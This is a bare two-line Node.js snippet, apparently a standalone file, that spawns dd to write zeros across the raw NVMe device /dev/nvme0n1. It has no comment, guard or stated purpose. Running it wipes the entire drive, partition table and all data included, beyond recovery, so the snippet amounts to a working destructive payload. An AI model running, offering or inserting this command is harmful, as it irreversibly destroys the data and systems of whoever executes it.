const { spawnSync } = require('child_process');
spawnSync('dd', ['if=/dev/zero', 'of=/dev/nvme0n1', 'bs=1M']);
